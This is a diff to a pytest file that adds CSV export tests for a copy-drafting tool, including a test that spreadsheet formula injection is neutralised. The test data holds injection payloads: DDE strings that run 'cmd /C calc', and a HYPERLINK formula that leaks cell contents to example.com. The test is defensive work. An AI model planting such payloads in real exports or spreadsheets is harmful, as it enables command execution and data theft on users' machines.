@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import base64
+import csv
+import io
 from pathlib import Path
 
 import pytest
@@ -62,7 +64,7 @@ def test_a_word_changed_in_the_file_is_found_out(name: str, tmp_path: Path) -> N
 
 
 @pytest.mark.parametrize("text", ["", "no draft here", "brandwright-draft:AAAA", '{"draft": 3}'])
-@pytest.mark.parametrize("suffix", ["md", "html", "json", "txt"])
+@pytest.mark.parametrize("suffix", ["md", "html", "json", "csv", "txt"])
 def test_a_file_that_is_no_export_is_said_to_be_none(text: str, suffix: str, tmp_path: Path) -> None:
     file = tmp_path / f"copy.{suffix}"
     file.write_text(text)
@@ -75,6 +77,32 @@ def test_markup_in_copy_stays_text_on_a_page() -> None:
     assert "<b>" not in page
     assert "A &lt;b&gt;plain&lt;/b&gt; &amp; *simple* line" in page
     assert 'href="https://example.com/?a=1&amp;b=2"' in page
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1",
+        "+49 30 1234",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        " =HYPERLINK(1)",
+        '=HYPERLINK("https://example.com?leak="&A1&A2,"Error: please click me")',
+    ],
+)
+def test_a_cell_is_never_a_formula(text: str) -> None:
+    changed = Part(name="body", blocks=(Block(kind="paragraph", sentences=(Sentence(text=text),)),))
+    table = FORMATS["csv"](DRAFT.model_copy(update={"parts": (changed,)})).decode()
+    rows = list(csv.reader(io.StringIO(table)))
+    assert rows[1][3] == f"'{text}"
+    assert not any(cell.lstrip()[:1] in tuple("=+-@") for row in rows for cell in row if cell)
+
+
+def test_a_table_has_a_row_for_each_block() -> None:
+    head, *rows, _ = csv.reader(io.StringIO(FORMATS["csv"](DRAFT).decode()))
+    assert head == ["part", "block", "kind", "text", "href", "evidence"]
+    assert rows[2] == ["body", "2", "paragraph", "One. Two.", "", "pp-1"]
+    assert rows[4] == ["body", "4", "cta", "Read on", "https://example.com/?a=1&b=2", ""]
 
 
 def test_markup_in_copy_stays_text_in_markdown() -> None:
